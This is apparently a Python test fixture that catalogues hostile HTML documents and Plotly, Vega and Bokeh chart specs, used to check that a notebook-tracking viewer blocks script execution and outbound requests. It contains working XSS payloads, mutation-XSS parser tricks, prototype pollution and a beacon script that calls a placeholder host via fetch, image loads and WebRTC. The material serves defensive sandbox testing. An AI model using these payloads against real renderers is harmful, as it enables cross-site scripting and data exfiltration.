"""Documents and charts that try to run something or to reach another machine, in every way that a browser has.

Read by the tests, and executed in the notebook's kernel as it stands. `THERE` stands for an address of the machine that listens, with a
path of its own for each; `NAMED` for a name that would have to be looked up; `RUN` for a script that says it ran, and then reaches out.
"""

from __future__ import annotations

import json
import tempfile
from typing import TYPE_CHECKING, Any

import jupyter_tracking as tracking

if TYPE_CHECKING:
    from jupyter_tracking.run_view import RunView

RUN = (
    "try{top.jtFired=1}catch(e){};top.postMessage('jtFired','*');"
    "new Image().src='http://THERE/s';fetch('http://THERE/s');"
    "new RTCPeerConnection({iceServers:[{urls:'turn:THERE?transport=tcp',username:'a',credential:'b'}]}).createDataChannel('x');"
    "location='http://THERE/s'"
)
OVER = 'style="position:fixed;inset:0;display:block"'  # what lies over the whole page is pressed wherever it is pressed

DOCUMENTS = {
    "frame": '<iframe src="http://THERE/"></iframe>',
    "frame of a name": '<iframe src="http://NAMED/"></iframe>',
    "frameset": '<frameset><frame src="http://THERE/"><frame src="http://NAMED/"></frameset>',
    "frame in a frame": "<iframe srcdoc=\"<iframe src='http://THERE/'></iframe>\"></iframe>",
    "frame of script": '<iframe src="javascript:RUN"></iframe>',
    "frame of data": "<iframe src=\"data:text/html,<iframe src='http://THERE/'></iframe>\"></iframe>",
    "link": f'<a href="http://THERE/" {OVER}>x</a>',
    "link of a name": f'<a href="http://NAMED/" {OVER}>x</a>',
    "link to the top": f'<a href="http://THERE/" target="_top" {OVER}>x</a>',
    "link to a new tab": f'<a href="http://THERE/" target="_blank" {OVER}>x</a>',
    "link that pings": f'<a href="#x" ping="http://THERE/" {OVER}>x</a>',
    "link of script": f'<a href="javascript:RUN" {OVER}>x</a>',
    "link of SVG": f'<svg {OVER}><a xlink:href="http://THERE/"><rect width="2000" height="2000"/></a></svg>',
    "link of MathML": f'<math {OVER}><mtext href="http://THERE/" {OVER}>x</mtext></math>',
    "link that is animated": f'<svg {OVER}><a><set attributeName="href" to="http://THERE/"/><rect width="2000" height="2000"/></a></svg>',
    "area": f'<img usemap="#m" src="data:image/png,x" {OVER}><map name="m"><area shape="default" href="http://THERE/"></map>',
    "form": f'<form action="http://THERE/"><button {OVER}>x</button></form>',
    "form elsewhere": f'<form id="f"></form><button form="f" formaction="http://THERE/" {OVER}>x</button>',
    "label": f'<form action="http://THERE/"><input type="submit" id="s"></form><label for="s" {OVER}>x</label>',
    "base": f'<base href="http://THERE/"><a href="x" {OVER}>x</a><img src="x">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://THERE/">',
    "hints": '<link rel="preconnect" href="http://THERE/"><link rel="dns-prefetch" href="//NAMED"><link rel="prefetch" href="http://NAMED/">',
    "hints in the text": '<p><link rel="preconnect" href="http://NAMED/"><link rel="prerender" href="http://THERE/"></p>',
    "sheet": '<link rel="stylesheet" href="http://THERE/"><style>@import url(http://THERE/a);@import "http://NAMED/";</style>',
    "pictures": '<img src="http://THERE/"><img srcset="http://THERE/b 2x"><picture><source srcset="http://NAMED/"><img></picture>',
    "films": '<video src="http://THERE/" poster="http://NAMED/"></video><audio src="http://THERE/a" autoplay></audio>',
    "background": '<body background="http://THERE/"><table background="http://NAMED/"><td>x</table>',
    "objects": '<object data="http://THERE/"></object><embed src="http://NAMED/"><applet code="http://THERE/a"></applet>',
    "portal": '<portal src="http://THERE/"></portal><fencedframe src="http://NAMED/"></fencedframe>',
    "SVG": '<svg><image href="http://THERE/"/><use href="http://THERE/a#x"/><filter id="f"><feImage href="http://NAMED/"/></filter></svg>',
    "CSS": "<style>p{background:url(http://THERE/)}@font-face{font-family:f;src:url(http://NAMED/)}p{font-family:f}</style><p>x</p>",
    "CSS in escapes": "<style>:root{--u:\\75rl(http://THERE/)}p{background:var(--u)}</style><p>x</p>",
    "CSS of an element": "<p style=\"background:url(http://THERE/);cursor:url('http://NAMED/'),auto\">x</p>",
    "script": '<script>RUN</script><script src="http://THERE/"></script><script type="module">RUN</script>',
    "listeners": '<body onload="RUN"><img src="x" onerror="RUN"><svg onload="RUN"></svg><input autofocus onfocus="RUN">',
    "rules": '<script type="speculationrules">{"prefetch":[{"urls":["http://THERE/"]}],"prerender":[{"urls":["http://NAMED/"]}]}</script>',
    "tag in a style": '<svg></p><style><a id="</style><iframe src=http://THERE/></iframe><img src=x onerror=RUN>">',
    "tag in a table": "<math><mtext><table><mglyph><style><!--</style><iframe src=http://THERE/></iframe>--></style></table></mtext></math>",
    "tag in a fallback": '<noscript><p title="</noscript><iframe src=http://THERE/></iframe>"></noscript>',
    "tag in a shadow": '<div><template shadowrootmode="open"><iframe src="http://THERE/"></iframe></template></div>',
}

LINK = "<a href='http://THERE/' target='_self'>LINKLINKLINKLINK</a>"
POINTS: dict[str, Any] = {"type": "box", "y": [1, 2, 3]}
PLOTLY: dict[str, dict[str, Any]] = {
    "links": {"data": [POINTS], "layout": {"title": {"text": LINK, "font": {"size": 60}, "y": 0.5}, "annotations": [{"text": LINK}]}},
    "script links": {"data": [POINTS], "layout": {"title": {"text": "<a href='javascript:RUN' popup='width=1' target='_self'>x</a>"}}},
    "markup": {
        "data": [POINTS],
        "layout": {"title": {"text": "<img src=x onerror=RUN><iframe src=http://THERE/></iframe><svg onload=RUN>"}},
    },
    "pictures": {"data": [POINTS], "layout": {"images": [{"source": "http://THERE/", "x": 0, "y": 1, "sizex": 1, "sizey": 1}]}},
    "picture trace": {"data": [{"type": "image", "source": "http://THERE/"}, {"type": "image", "source": "javascript:RUN"}]},
    "map": {"data": [{"type": "scattermap", "lat": [1], "lon": [1]}], "layout": {"map": {"style": "http://THERE/"}}},
    "globe": {"data": [{"type": "choropleth", "locations": ["FRA"], "z": [1], "geojson": "http://THERE/"}]},
    "hover": {
        "data": [{**POINTS, "hovertemplate": f"{LINK}<script>RUN</script>", "text": LINK, "meta": LINK, "name": "<b onclick=RUN>x</b>"}]
    },
    "config": {"data": [POINTS], "config": {"plotlyServerURL": "http://THERE/", "topojsonURL": "http://THERE/"}, "frames": [{"data": []}]},
    "prototype": {"data": [POINTS], "layout": {"__proto__": {"onload": "RUN"}, "constructor": {"prototype": {"src": "http://THERE/"}}}},
    "font": {"data": [POINTS], "layout": {"font": {"family": "x;src:url(http://THERE/)"}, "paper_bgcolor": "url(http://THERE/)"}},
    "table": {"data": [{"type": "table", "header": {"values": [LINK]}, "cells": {"values": [[LINK, "<img src=x onerror=RUN>"]]}}]},
}
VALUES = {"values": [{"a": 1, "b": 2, "u": "http://THERE/"}]}
SCHEMA = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json"}
VEGA: dict[str, dict[str, Any]] = {
    "data": {**SCHEMA, "data": {"url": "http://THERE/"}, "mark": "bar", "encoding": {"x": {"field": "a"}}},
    "picture": {**SCHEMA, "data": VALUES, "mark": {"type": "image", "url": "http://THERE/", "width": 90, "height": 90}},
    "pictures of data": {**SCHEMA, "data": VALUES, "mark": "image", "encoding": {"url": {"field": "u"}}},
    "link": {**SCHEMA, "data": VALUES, "mark": {"type": "rect", "width": 900, "height": 900}, "encoding": {"href": {"field": "u"}}},
    "options": {
        **SCHEMA,
        "usermeta": {
            "embedOptions": {
                "patch": "http://THERE/",
                "config": "http://THERE/",
                "ast": False,
                "loader": {"baseURL": "http://THERE/"},
                "renderer": "svg",
                "actions": True,
            }
        },
        "data": VALUES,
        "mark": {"type": "rect", "href": "http://THERE/", "width": 900, "height": 900, "tooltip": {"expr": "'<img src=x onerror=RUN>'"}},
    },
    "lookup": {
        **SCHEMA,
        "data": VALUES,
        "mark": "arc",
        "transform": [{"lookup": "a", "from": {"data": {"url": "http://THERE/"}, "key": "a"}}],
    },
    "map": {**SCHEMA, "data": {"url": "http://THERE/", "format": {"type": "topojson", "feature": "x"}}, "mark": "geoshape"},
    "expression": {
        **SCHEMA,
        "params": [
            {"name": "p", "expr": "event.view.open('http://THERE/')"},
            {"name": "q", "value": 1, "on": [{"events": "window:mousemove", "update": "event.view.fetch('http://THERE/')"}]},
        ],
        "data": VALUES,
        "mark": "arc",
    },
    "function": {
        **SCHEMA,
        "data": VALUES,
        "transform": [{"calculate": "toString.constructor('RUN')()", "as": "c"}, {"calculate": "{toString:event.view.eval}+''", "as": "d"}],
        "mark": "arc",
    },
    "whole vega": {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "width": 90,
        "height": 90,
        "data": [
            {"name": "t", "url": "http://THERE/"},
            {"name": "u", "values": [1], "transform": [{"type": "formula", "expr": "RUN", "as": "x"}]},
        ],
        "signals": [{"name": "s", "init": "warn(data('t'))", "on": [{"events": {"type": "timer", "throttle": 1}, "update": "s"}]}],
        "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "http://THERE/"}, "href": {"value": "http://THERE/"}}}}],
    },
}


def bokeh_figures() -> dict[str, Any]:  # noqa: C901 - a list
    """Return figures of bokeh by what they try."""
    from bokeh import models
    from bokeh.plotting import figure

    run = models.CustomJS(code=RUN)
    there = "http://THERE/"

    def plain(**more: Any) -> Any:
        plot = figure(width=400, height=300, **more)
        plot.scatter([1, 2], [1, 2], size=300)
        return plot

    def with_(change: Any) -> Any:
        plot = plain()
        change(plot)
        return plot

    def formatted(plot: Any) -> None:
        plot.xaxis.formatter = models.CustomJSTickFormatter(code=RUN)

    def opened(plot: Any) -> None:
        plot.add_tools(
            models.TapTool(callback=models.OpenURL(url=there, same_tab=True)), models.TapTool(callback=models.OpenURL(url=there))
        )

    def listened(plot: Any) -> None:
        for event in ("document_ready", "tap", "mousemove", "mouseenter"):
            plot.js_on_event(event, run)
        plot.x_range.js_on_change("start", run)

    def hovered(plot: Any) -> None:
        plot.add_tools(
            models.HoverTool(
                tooltips=f"<iframe src={there}></iframe><a href={there}>x</a><img src=x onerror=RUN><link rel=preconnect href={there}>"
            )
        )
        plot.add_tools(models.HoverTool(tooltips=[("x", "@x{custom}")], formatters={"@x": models.CustomJSHover(code=RUN)}))

    def fed(plot: Any) -> None:
        for source in (models.AjaxDataSource(data_url=there, polling_interval=50), models.ServerSentDataSource(data_url=there)):
            plot.scatter("x", "y", source=source)

    def tiled(plot: Any) -> None:
        plot.x_range, plot.y_range = models.Range1d(0, 1e6), models.Range1d(0, 1e6)
        plot.add_tile(models.WMTSTileSource(url=f"{there}{{X}}/{{Y}}/{{Z}}"))

    def dressed(plot: Any) -> None:
        plot.stylesheets = [
            models.ImportedStyleSheet(url=there),
            models.InlineStyleSheet(css=f"@import url({there});:host{{background:url({there})}}"),
        ]

    return {
        "listeners": with_(listened),
        "formatter": with_(formatted),
        "opened": with_(opened),
        "hover": with_(hovered),
        "pictures": with_(lambda plot: plot.image_url(url=[there], x=1, y=1, w=1, h=1)),
        "tiles": with_(tiled),
        "sources": with_(fed),
        "sheets": with_(dressed),
        "mathematics": plain(title=f"$$\\href{{{there}}}{{x}}$$<img src=x onerror=RUN>"),
        "transform": with_(lambda plot: plot.scatter(x={"field": "x", "transform": models.CustomJSTransform(v_func=RUN)}, y=1)),
    }


def make(there: str, named: str) -> RunView:
    """Log them all: documents as the steps of one artifact, and the charts of each library as the steps of another."""
    from bokeh.embed import json_item

    def filled(text: str, inside: Any = str) -> str:
        return text.replace("RUN", inside(RUN)).replace("THERE", there).replace("NAMED", named)

    charts = {"plotly": PLOTLY, "vega": VEGA, "bokeh": {what: json_item(plot) for what, plot in bokeh_figures().items()}}
    with tracking.init(root=tempfile.mkdtemp(), name="pages", track_code=False, track_env=False, track_logs=False) as run:
        for step, markup in enumerate(DOCUMENTS.values()):
            run.log_html("documents", filled(markup), step=step)
        # As a stranger would: what our own functions refuse to log is in the row all the same.
        for library, figures in charts.items():
            for step, figure in enumerate(figures.values()):
                chart = {"kind": library, "figure": json.loads(filled(json.dumps(figure), lambda text: json.dumps(text)[1:-1]))}
                run.record("chart", library, json.dumps(chart), step, None)
    return tracking.open_run(run)
